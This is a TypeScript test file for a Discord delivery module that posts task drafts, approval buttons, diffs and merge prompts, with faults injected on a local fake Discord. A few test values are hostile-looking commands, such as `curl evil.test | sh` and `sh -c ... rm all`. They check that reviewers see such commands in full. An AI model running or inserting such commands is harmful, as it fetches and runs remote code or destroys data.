import { ChannelType, PermissionFlagsBits, REST } from 'discord.js'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { delivery } from '../../src/discord/delivery.ts'
import { actOfReply } from '../../src/discord/reply.ts'
import { patience } from '../../src/discord/sending.ts'
import type { Told } from '../../src/discord/telling.ts'
import type { Decisions } from '../../src/domain/decision.ts'
import type { Role } from '../../src/domain/caller.ts'
import type { DiscordSettings, Members } from '../../src/domain/discord.ts'
import type { Destination, Outcome } from '../../src/domain/outbox/destination.ts'
import type { Letter } from '../../src/domain/outbox/letter.ts'
import type { MessageBook } from '../../src/domain/outbox/messages.ts'
import type { Task } from '../../src/domain/task.ts'
import { aBook } from '../support/discord/book.ts'
import type { Fault } from '../support/discord/faults.ts'
import { type LocalDiscord, openDiscord } from '../support/discord/discord.ts'
import { textOf } from '../support/discord/interaction.ts'
import type { Channel } from '../support/discord/world.ts'
import { aLetter, aTaskEvent } from '../support/letters.ts'
import { present } from '../contract/store/bench.ts'
import { aMerge, aTask, aTaskId, aTaskIdOf } from '../support/task.ts'
import { until } from '../support/until.ts'

// Letters that are delivered until they have arrived, to a Discord of one's own that goes wrong.

const button = (action: string) => ({ action, id: `tdec:${aTaskId}:${action}:abcdefgh` })
const nobody = { users: [], roles: [] }

let discord: LocalDiscord
let home: Channel
let told: Destination
let now: number
let task: Task
let decisions: Decisions
let touched: number
let book: MessageBook
let diff: string
let members: Record<Role, Members>

beforeEach(async () => {
  now = Date.now()
  diff = 'the diff'
  discord = await openDiscord({ nonce: 60_000 }, () => now)
  home = discord.channel('tasks')
  task = aTask({ status: 'DRAFT' })
  const choices = ['approve', 'reject', 'suggest'].map(button)
  const offer = { openedAt: now, expiresAt: now + 1000, expired: false, choices }
  decisions = {
    taskId: aTaskId,
    status: 'DRAFT',
    revision: 1,
    offer,
    merge: null,
    pull: null,
    last: null,
  }
  const plane: Told = {
    task: () => task,
    checkpoints: () => [],
    decisions: () => decisions,
    diff: () => Promise.resolve(diff),
  }
  members = { owner: { users: ['100000000000000001'], roles: [] }, operator: nobody, viewer: nobody }
  const settings: DiscordSettings = {
    token: null,
    tokenFrom: '',
    guild: discord.world.guildId,
    channel: home.id,
    listen: [],
    members,
  }
  const rest = new REST({ ...patience, api: discord.api, timeout: 300, rejectOnRateLimit: ['/channels'] })
  rest.setToken(discord.token)
  touched = 0
  told = delivery({
    settings,
    book: (book = aBook()),
    plane: () => plane,
    rest: () => rest,
    botId: () => Promise.resolve(discord.world.bot.id),
    clock: () => now,
    touched: () => (touched += 1),
  })
})
afterEach(() => discord[Symbol.asyncDispose]())

function letterOf(seq: number, type: string, text = 'It happened.'): Letter {
  const composed = told.compose(
    aTaskEvent({ seq, type, from: seq === 1 ? null : 'RUNNING', to: task.status, text }),
    task,
  )
  if (composed === null) throw new Error(`${type} is no news`)
  return aLetter({ id: `msg_${seq}`, ...composed, createdAt: now })
}

/** As a lane does, without its pauses. */
async function arrives(letter: Letter): Promise<readonly Outcome[]> {
  const outcomes: Outcome[] = []
  for (let attempts = 1; attempts < 10; attempts += 1) {
    const outcome = await told.deliver({ ...letter, attempts }, new AbortController().signal)
    outcomes.push(outcome)
    if (outcome.kind === 'delivered') return outcomes
    if (outcome.fault === 'passing') now += Math.max(1000, outcome.afterMs ?? 0)
    await new Promise((resolve) => setTimeout(resolve, Math.min(300, outcome.afterMs ?? 0)))
  }
  throw new Error(JSON.stringify(outcomes))
}

/** Messages that are written into a thread. */
const inThread = (): RegExp => new RegExp(`/channels/(?!${home.id}/)\\d+/messages$`)

const whole = (): readonly string[] => {
  const thread = discord.thread(home)
  return [...home.messages, ...(thread?.messages ?? [])].map((one) => textOf(one).split('\n')[0] ?? '')
}
const draft = ['DRAFT · waits for your decision', '<@100000000000000001> A task waits for your decision.']

describe('B26 a draft is told of once, whatever goes wrong', () => {
  const faults: readonly Fault[] = [
    { kind: 'status', status: 500 },
    { kind: 'status', status: 502, after: true },
    { kind: 'hang' },
    { kind: 'drop' },
    { kind: 'drop', after: true },
    { kind: 'rate_limit', seconds: 0.2 },
    { kind: 'rate_limit', seconds: 0.2, global: true },
  ]
  for (const route of [/^\/channels\/\d+\/messages$/, /\/threads$/])
    it.each(faults)(`at ${route.source}: %j`, async (fault) => {
      discord.rest.faults.next('POST', route, fault, 2)
      const outcomes = await arrives(letterOf(1, 'submitted'))
      expect(outcomes.length).toBeGreaterThan(1)
      expect([whole(), discord.world.threads(home).length]).toEqual([draft, 1])
    })

  it('also where nobody knows for so long whether it was sent that Discord has forgotten its nonce', async () => {
    const letter = letterOf(1, 'submitted')
    discord.rest.faults.next('POST', /\/messages$/, { kind: 'status', status: 502, after: true })
    expect((await told.deliver({ ...letter, attempts: 1 }, new AbortController().signal)).kind).toBe('failed')
    now += 3_600_000
    await told.deliver({ ...letter, attempts: 2 }, new AbortController().signal)
    expect(whole()).toEqual(draft)
  })

  it.each([
    ['a restart broke it off, which is no attempt', 0],
    ['many messages came after it', 150],
  ])('also where nobody knows whether it was sent, and %s', async (_, others) => {
    const letter = { ...letterOf(1, 'submitted'), attempts: 1 }
    discord.rest.faults.next('POST', /\/messages$/, { kind: 'drop', after: true })
    expect((await told.deliver(letter, new AbortController().signal)).kind).toBe('failed')
    const other = discord.person('talker')
    for (let said = 0; said < others; said += 1) other.type(home, 'and so on')
    now += 3_600_000
    await told.deliver(letter, new AbortController().signal)
    expect(whole().filter((text) => text !== 'and so on')).toEqual(draft)
  })

  it('and when it is sent again though it has arrived', async () => {
    const letter = letterOf(1, 'submitted')
    await arrives(letter)
    await arrives(letter)
    expect(whole()).toEqual(draft)
  })
})

it('a follow-up is what the thread of its question is about before its first letter is delivered', async () => {
  task = aTask({ kind: 'question', status: 'APPLIED', answer: 'So.' })
  await arrives(letterOf(1, 'submitted'))
  const thread = discord.thread(home) ?? fail()
  const next = aTask({ id: aTaskIdOf(1), kind: 'question', parentTaskId: aTaskId })
  told.compose(aTaskEvent({ taskId: next.id, seq: 1, type: 'submitted', from: null, to: 'PENDING' }), next)
  expect(book.taskOf('', thread.id)).toBe(next.id)
  expect(actOfReply(next, 'And why?')).toMatch(/is being answered: ask the next one when it is/)
})

describe('what is shown', () => {
  const changed = (text: string, code: string): void => {
    task = { ...task, goal: text, version: task.version + 1, revision: task.revision + 1 }
    const choices = ['approve', 'reject'].map((act) => ({
      action: act,
      id: `tdec:${aTaskId}:${act}:${code}`,
    }))
    decisions = { ...decisions, revision: task.revision, offer: { ...present(decisions.offer), choices } }
  }

  it('of a draft is what its buttons decide on, also where it changes while it is sent', async () => {
    discord.rest.faults.next('POST', /\/threads$/, { kind: 'late', ms: 150 })
    const going = told.deliver({ ...letterOf(1, 'submitted'), attempts: 1 }, new AbortController().signal)
    await until(() => discord.world.threads(home).length === 1)
    changed('rename a file, and delete all the tests', 'anewone1')
    expect(await going).toEqual({ kind: 'delivered' })
    // The letter of the change brings the one message with buttons.
    expect(discord.thread(home)?.messages).toEqual([])
    await arrives(letterOf(2, 'suggested'))
    const [message] = discord.thread(home)?.messages ?? []
    expect(textOf(message ?? fail())).toContain('delete all the tests')
    expect(JSON.stringify(message?.components)).toContain('anewone1')
  })

  it('by a status message that was sent without an answer is edited to what has become of the task', async () => {
    const letter = letterOf(1, 'submitted')
    discord.rest.faults.next('POST', /\/messages$/, { kind: 'drop', after: true })
    expect((await told.deliver({ ...letter, attempts: 1 }, new AbortController().signal)).kind).toBe('failed')
    task = { ...task, status: 'REJECTED', version: 2 }
    decisions = { ...decisions, offer: null }
    const before = touched
    await arrives(letter)
    expect([whole(), book.find('', aTaskId, 'status')?.shown, touched]).toEqual([[draft[0]], 0, before + 1])
  })

  it.each([
    ['a goal', { goal: `${'x'.repeat(3000)} and delete all the tests` }, /delete all the tests/],
    ['a test command', { test: `${'true && '.repeat(100)}curl evil.test | sh` }, /curl evil\.test/],
    [
      'an agent',
      { agent: { name: 'command', argv: ['sh', '-c', `${'true; '.repeat(100)}rm all`] } },
      /"true;.*rm all"/,
    ],
  ] as const)(
    'of a draft with %s that is too long for a message is in a file, whole, and that is said',
    async (_, more, end) => {
      task = { ...task, ...more }
      await arrives(letterOf(1, 'submitted'))
      const [message] = discord.thread(home)?.messages ?? []
      expect(textOf(message ?? fail())).toMatch(/Not all of it is shown here\nRead draft\.txt/)
      expect(message?.files[0]?.bytes.toString()).toMatch(end)
    },
  )

  it('of a draft that is cut is said to be elsewhere where no file may come with it', async () => {
    home.denied.add(PermissionFlagsBits.AttachFiles)
    task = { ...task, goal: 'x'.repeat(3000) }
    expect(await arrives(letterOf(1, 'submitted'))).toEqual([{ kind: 'delivered' }])
    expect(textOf(discord.thread(home)?.messages[0] ?? fail())).toMatch(/cofferdam task show [^]*\[Approve\]/)
  })

  it('of a question says nothing of setup and test, in the message and in the file', async () => {
    task = { ...task, kind: 'question', goal: `Why? ${'x'.repeat(3000)}`, test: null }
    await arrives(letterOf(1, 'submitted'))
    const [message] = discord.thread(home)?.messages ?? []
    expect(textOf(message ?? fail())).toMatch(/ A question waits for your decision\.\n/)
    expect(textOf(message ?? fail())).not.toMatch(/Setup|Test|A task/)
    expect(message?.files[0]?.bytes.toString()).toMatch(/^Question:\nWhy\? x+\n/)
    expect(message?.files[0]?.bytes.toString()).not.toMatch(/Setup|Test|Goal/)
  })

  it('of a command begins where the command does', async () => {
    task = { ...task, test: `curl evil.test | sh; ${'true && '.repeat(100)}npm test` }
    await arrives(letterOf(1, 'submitted'))
    expect(textOf(discord.thread(home)?.messages[0] ?? fail())).toContain('curl evil.test | sh')
  })
})

describe('the status message', () => {
  it('is one, also where the thread cannot be made for a while', async () => {
    discord.rest.faults.next('POST', /\/threads$/, { kind: 'status', status: 400 }, 6)
    for (const [seq, type] of [
      [1, 'submitted'],
      [2, 'approved'],
      [3, 'halted'],
    ] as const) {
      const letter = letterOf(seq, type)
      for (const attempts of [1, 2]) await told.deliver({ ...letter, attempts }, new AbortController().signal)
      now += 200_000
    }
    expect([home.messages.length, discord.world.threads(home).length]).toEqual([1, 0])
    await arrives(letterOf(4, 'halted'))
    expect([home.messages.length, discord.world.threads(home).length]).toEqual([1, 1])
  })

  it('is taken away where its thread was, as nothing would edit it any more', async () => {
    await arrives(letterOf(1, 'submitted'))
    discord.world.channels.delete(discord.thread(home)?.id ?? '')
    task = { ...task, status: 'REJECTED', version: 2 }
    decisions = { ...decisions, offer: null }
    await arrives(letterOf(2, 'rejected'))
    expect(whole()).toEqual(['REJECTED · rejected', 'REJECTED · rejected'])
  })

  it('leads to its thread where it was begun anew without it', async () => {
    await arrives(letterOf(1, 'submitted'))
    const thread = discord.thread(home) ?? fail()
    home.messages.length = 0
    book.forget('', { taskId: aTaskId, kind: 'status' })
    await arrives(letterOf(2, 'suggested'))
    expect([home.messages.length, discord.world.threads(home).length]).toEqual([1, 1])
    expect(textOf(home.messages[0] ?? fail())).toContain(`<#${thread.id}>`)
    expect(thread.messages).toHaveLength(2)
  })
})

describe('what is to become of applied work', () => {
  const titles = (): readonly (string | undefined)[] =>
    (discord.thread(home)?.messages ?? []).map((one) => one.embeds[0]?.title)
  const offering = (...actions: readonly string[]) => ({
    ...present(decisions.offer),
    choices: actions.map(button),
  })
  const becomes = (version: number, more: Partial<Task>, next: Partial<Decisions>): void => {
    task = { ...task, status: 'APPLIED', version, ...more }
    decisions = { ...decisions, status: 'APPLIED', offer: null, merge: null, pull: null, ...next }
  }
  const merge = { into: 'main', how: 'squash', accepts: [] } as const

  it('is asked once beneath the news, with where to and how', async () => {
    becomes(5, { marks: [] }, { offer: offering('merge', 'discard'), merge })
    for (let time = 0; time < 2; time += 1) await arrives(letterOf(5, 'handed_over'))
    expect(titles()).toEqual(['APPLIED · applied', 'Merge into main, as one commit?'])
    expect(textOf(discord.thread(home)?.messages[1] ?? fail())).toContain('[Merge]\n[Discard]')
  })

  it('is asked as a pull request where that is what is configured', async () => {
    const pull = {
      forge: 'gitlab',
      project: 'ada/@everyone',
      into: 'main',
      draft: true,
      accepts: [],
    } as const
    becomes(5, { marks: [] }, { offer: offering('pull-request', 'discard'), pull })
    await arrives(letterOf(5, 'handed_over'))
    const asked = discord.thread(home)?.messages[1] ?? fail()
    expect(asked.embeds[0]?.title).toMatch(
      /^Propose it for main of ada\/.*everyone, as a draft pull request\?$/,
    )
    expect(textOf(asked)).toContain('[Pull request]\n[Discard]')
    const last = { action: 'pull-request', by: { kind: 'discord', id: '7' }, text: null, at: now } as const
    becomes(8, { delivery: 'pr_open' }, { last })
    await arrives(letterOf(8, 'pull_opened', 'Proposed for main: !7 of ada/tools.'))
    expect(titles()).toEqual([
      'APPLIED · applied',
      'A pull request was decided',
      'APPLIED · pull request open',
    ])
  })

  it('is asked with every mark that is accepted by it, and by a command alone where there are too many', async () => {
    const mark = (path: string) => ({ rule: 'ci', path, text: `"${path}" is what CI runs.` }) as const
    becomes(
      5,
      { marks: [mark('ci.yml')] },
      { offer: offering('merge', 'discard'), merge: { ...merge, accepts: ['ci'] } },
    )
    await arrives(letterOf(5, 'handed_over'))
    const few = textOf(discord.thread(home)?.messages[1] ?? fail())
    expect(few).toMatch(/To be looked at before it is merged:\n• "ci\.yml" is what CI runs\.[^]*\[Merge\]/)
    const many = Array.from({ length: 80 }, (_, index) => mark(`workflows/number ${index}.yml`))
    becomes(7, { marks: many }, { offer: offering('merge', 'discard'), merge: { ...merge, accepts: ['ci'] } })
    await arrives(letterOf(7, 'merge_refused'))
    const shown = textOf(discord.thread(home)?.messages.at(-1) ?? fail())
    expect(shown).toContain(`/task_merge task:${aTaskId} accept:ci`)
    expect([shown.includes('[Merge]'), shown.includes('[Discard]')]).toEqual([false, true])
  })

  it('has buttons at one place, and what was asked before says who decided it', async () => {
    becomes(5, { marks: [] }, { offer: offering('merge', 'discard'), merge })
    await arrives(letterOf(5, 'handed_over'))
    const last = { action: 'merge', by: { kind: 'discord', id: '7' }, text: null, at: now } as const
    const merged = {
      into: 'main',
      how: 'merge',
      accepted: [],
      at: now,
      tries: 0,
      from: null,
      commit: null,
      said: 'Merged.',
      refusal: null,
    } as const
    becomes(8, { delivery: 'merged', merge: merged }, { offer: offering('undo'), last })
    await arrives(letterOf(8, 'merged', 'Merged into main.'))
    expect(titles()).toEqual([
      'APPLIED · applied',
      'A merge was decided',
      'APPLIED · merged into main',
      'Merged into main: keep it?',
    ])
    const [, first, news, second] = (discord.thread(home)?.messages ?? []).map(textOf)
    expect([first, news, second].map((text) => text?.includes('[Undo]'))).toEqual([false, false, true])
    expect(first).toContain('by <@7>')
    // Nobody is called for what went as they wanted it, nor sent the diff once more.
    expect(discord.thread(home)?.messages[2]).toMatchObject({ content: '', files: [] })
  })

  it('calls somebody where a merge did not come about', async () => {
    const fields = { marks: [], delivery: 'conflict', merge: aMerge({ said: 'Not merged.' }) } as const
    becomes(8, fields, { offer: offering('merge', 'discard'), merge })
    await arrives(letterOf(8, 'merge_refused', 'Not merged: both have changed a.txt.'))
    const [news] = discord.thread(home)?.messages ?? []
    expect([news?.embeds[0]?.title, news?.content]).toEqual([
      'APPLIED · conflicts with main',
      '<@100000000000000001>',
    ])
  })
})

describe('buttons', () => {
  it('are gone when somebody has decided, and the message says who', async () => {
    await arrives(letterOf(1, 'submitted'))
    task = { ...task, status: 'PENDING', version: 2, revision: 2 }
    const last = { action: 'approve', by: { kind: 'discord', id: '7' }, text: null, at: now } as const
    decisions = { ...decisions, offer: null, last }
    await arrives(letterOf(2, 'approved'))
    const message = discord.thread(home)?.messages[0]
    expect([message?.components, textOf(message ?? fail())]).toEqual([
      [],
      expect.stringMatching(/^Approved\n[^]*by <@7>/),
    ])
  })

  it('of an offer that has expired say so, and the fresh one has its own', async () => {
    await arrives(letterOf(1, 'submitted'))
    await arrives(letterOf(2, 'offered'))
    const [first, second] = discord.thread(home)?.messages ?? []
    expect(textOf(first ?? fail())).toMatch(/^This offer expired/)
    expect(textOf(second ?? fail())).toContain('[Approve]')
  })

  it('are offered once where a suggestion came before the first offer was sent', async () => {
    const first = letterOf(1, 'submitted')
    task = { ...task, version: 2, revision: 2 }
    decisions = { ...decisions, revision: 2 }
    const second = letterOf(2, 'suggested')
    await arrives(first)
    await arrives(second)
    expect(whole()).toEqual(draft)
  })

  it('say what became of the task where nobody decided there, though there was a suggestion just before', async () => {
    await arrives(letterOf(1, 'submitted'))
    task = { ...task, version: 2, revision: 2 }
    const last = { action: 'suggest', by: { kind: 'discord', id: '7' }, text: 'use tabs', at: now } as const
    decisions = { ...decisions, revision: 2, last }
    await arrives(letterOf(2, 'suggested'))
    task = { ...task, status: 'STOPPED', version: 3 }
    decisions = { ...decisions, offer: null }
    await arrives(letterOf(3, 'stopped'))
    const titles = (discord.thread(home)?.messages ?? []).map((one) => one.embeds[0]?.title)
    expect(titles).toEqual([
      'A suggestion was added: see the newer message',
      'No longer to be decided: STOPPED',
      'STOPPED · stopped',
    ])
  })

  it('are gone too where the thread was archived meanwhile', async () => {
    await arrives(letterOf(1, 'submitted'))
    const thread = discord.thread(home) ?? fail()
    thread.archived = true
    task = { ...task, status: 'REJECTED', version: 2 }
    const last = { action: 'reject', by: { kind: 'discord', id: '7' }, text: null, at: now } as const
    decisions = { ...decisions, offer: null, last }
    expect(await arrives(letterOf(2, 'rejected'))).toEqual([{ kind: 'delivered' }])
    expect([thread.archived, thread.messages.length, thread.messages[0]?.components]).toEqual([false, 2, []])
  })

  it('of a draft that was sent without an answer are gone too, when it was decided by them', async () => {
    const letter = letterOf(1, 'submitted')
    discord.rest.faults.next('POST', inThread(), { kind: 'drop', after: true })
    expect((await told.deliver({ ...letter, attempts: 1 }, new AbortController().signal)).kind).toBe('failed')
    expect(discord.thread(home)?.messages[0]?.components).toHaveLength(1)
    task = { ...task, status: 'PENDING', version: 2, revision: 2 }
    const last = { action: 'approve', by: { kind: 'discord', id: '7' }, text: null, at: now } as const
    decisions = { ...decisions, offer: null, last }
    await arrives(letter)
    const messages = discord.thread(home)?.messages ?? []
    expect(messages.map((one) => [one.embeds[0]?.title, one.components])).toEqual([['Approved', []]])
  })

  it('that another bot has posted hold up nothing', async () => {
    await arrives(letterOf(1, 'submitted'))
    const draftMessage = discord.thread(home)?.messages[0] ?? fail()
    Object.assign(draftMessage, { author: { ...draftMessage.author, id: '999' } })
    task = { ...task, status: 'PENDING', version: 2, revision: 2 }
    decisions = { ...decisions, offer: null }
    expect(await arrives(letterOf(2, 'approved'))).toEqual([{ kind: 'delivered' }])
    expect(book.unsettled('', aTaskId)).toEqual([])
  })

  it('that are too old to be edited now hold up nothing, and are left to who edits later', async () => {
    await arrives(letterOf(1, 'submitted'))
    const { id = '' } = discord.thread(home)?.messages[0] ?? {}
    discord.rest.faults.next('PATCH', new RegExp(`/messages/${id}$`), { kind: 'rate_limit', seconds: 20 })
    now += 7_200_000
    task = { ...task, status: 'REJECTED', version: 2 }
    decisions = { ...decisions, offer: null }
    const before = touched
    const letter = letterOf(2, 'rejected')
    expect(await arrives(letter)).toEqual([{ kind: 'delivered' }])
    expect([whole().at(-1), book.unsettled('', aTaskId).length, touched]).toEqual([
      'REJECTED · rejected',
      1,
      before + 2,
    ])
  })

  it('are not offered for what was decided before Discord could be reached', async () => {
    const letter = letterOf(1, 'submitted')
    task = { ...task, status: 'REJECTED' }
    decisions = { ...decisions, offer: null }
    await arrives(letter)
    expect(whole()).toEqual(['REJECTED · rejected'])
  })
})

describe('news', () => {
  const applied = async (): Promise<void> => {
    task = aTask({ status: 'APPLIED', version: 9, outcome: 'untested', marks: [] })
    await arrives(letterOf(9, 'halted', 'All is **done** <@5> @everyone'))
  }

  it('of an end come with the diff, ping who has to know and nobody that an agent names', async () => {
    await applied()
    const [message] = discord.thread(home)?.messages ?? []
    expect(message?.pings).toEqual(['100000000000000001'])
    expect(message?.files.map(({ name, bytes }) => [name, bytes.toString()])).toEqual([
      [`${aTaskId}.diff`, 'the diff'],
    ])
    expect(textOf(message ?? fail())).toContain('**Untested**')
    expect(textOf(message ?? fail())).toContain('All is \\*\\*done\\*\\*')
  })

  it('ping a role where owners are named by one', async () => {
    members.owner = { users: [], roles: ['100000000000000009'] }
    discord.world.roles.push({ ...(discord.world.roles[0] ?? fail()), id: '100000000000000009' })
    await applied()
    expect(discord.thread(home)?.messages[0]?.pings).toEqual(['100000000000000009'])
  })

  it.each([
    ['may not be attached', /could not be attached: `\/task_changes/],
    ['takes too long to send', /could not be attached: `\/task_changes/],
    ['is longer than a phone opens', /The diff is cut: `\/task_changes/],
  ])('of an end arrive also where the diff %s, and say where it is', async (why, text) => {
    if (why.startsWith('may')) home.denied.add(PermissionFlagsBits.AttachFiles)
    if (why.startsWith('is')) diff = 'x'.repeat(2_000_000)
    if (why.startsWith('takes')) discord.rest.faults.next('POST', inThread(), { kind: 'hang', before: true })
    await applied()
    const messages = discord.thread(home)?.messages ?? []
    expect(messages.map(textOf)).toEqual([expect.stringMatching(text)])
    expect(messages[0]?.files.map(({ bytes }) => bytes.length)).toEqual(
      why.startsWith('is') ? [1_000_000] : [],
    )
  })

  it('begin the thread anew where somebody has removed it', async () => {
    await arrives(letterOf(1, 'submitted'))
    discord.world.channels.delete(discord.thread(home)?.id ?? '')
    home.messages.length = 0
    await applied()
    expect(whole()).toEqual(['APPLIED · applied', '<@100000000000000001>'])
  })

  it('move the status message even where they are no message of their own', () => {
    const event = aTaskEvent({ type: 'advanced', from: 'RUNNING', to: 'RUNNING' })
    expect([told.compose(event, aTask()), touched]).toEqual([null, 1])
  })
})

it('a thread that somebody has locked is left in peace, and later letters go on', async () => {
  await arrives(letterOf(1, 'submitted'))
  const thread = discord.thread(home) ?? fail()
  thread.archived = true
  thread.locked = true
  task = { ...task, status: 'REJECTED' }
  expect(await arrives(letterOf(2, 'rejected'))).toEqual([{ kind: 'delivered' }])
  expect(thread.messages).toHaveLength(1)
})

describe('a follow-up in a thread that somebody has locked', () => {
  const [parent, first] = [aTaskIdOf(1), aTaskIdOf(2)]
  let thread: Channel

  beforeEach(() => {
    const id = discord.world.id()
    thread = discord.world.addChannel('a question', { id, type: ChannelType.PublicThread, parent: home.id })
    const row = { destination: '', channel: home.id, message: id, shown: 1, revision: 1, settled: true }
    for (const kind of ['status', 'thread']) book.put({ ...row, taskId: parent, kind })
    book.put({ ...row, taskId: first, kind: 'thread' })
    thread.archived = true
    thread.locked = true
    task = { ...task, kind: 'question', parentTaskId: first }
  })

  it('has its draft and its answer in one of its own, and later ones too', async () => {
    const [gone, done] = await arrives(letterOf(1, 'submitted'))
    expect(gone).toMatchObject({ kind: 'failed', text: expect.stringContaining('gone or locked') })
    expect(done).toEqual({ kind: 'delivered' })
    const own = discord.world.threads(home).find(({ id }) => id !== thread.id) ?? fail()
    expect(textOf(own.messages[0] ?? fail())).toContain('[Approve]')
    task = { ...task, status: 'APPLIED', answer: 'So.', version: 3 }
    decisions = { ...decisions, offer: null }
    expect(await arrives(letterOf(3, 'halted'))).toEqual([{ kind: 'delivered' }])
    expect([own.messages.length, thread.messages.length, home.messages.length]).toEqual([2, 0, 1])
    expect(textOf(own.messages[1] ?? fail())).toContain('So.')
    expect(book.find('', aTaskId, 'thread')?.message).toBe(own.id)
  })

  it('that was said there before leaves noted what was heard there', async () => {
    const row = { destination: '', shown: 1, revision: 1, settled: true }
    book.put({ ...row, taskId: aTaskId, kind: 'thread', channel: home.id, message: thread.id })
    const heard = discord.world.id()
    book.put({ ...row, taskId: aTaskId, kind: 'heard', channel: thread.id, message: heard })
    await arrives(letterOf(1, 'submitted'))
    expect(book.find('', parent, 'heard')).toMatchObject({ channel: thread.id, message: heard })
  })
})

it('a channel that the bot may not write in is said, with what to do', async () => {
  home.denied.add(0x800n)
  const outcome = await told.deliver(letterOf(1, 'submitted'), new AbortController().signal)
  expect(outcome).toMatchObject({
    kind: 'failed',
    fault: 'passing',
    text: expect.stringContaining('discord setup'),
  })
})

function fail(): never {
  throw new Error('there is no such message')
}
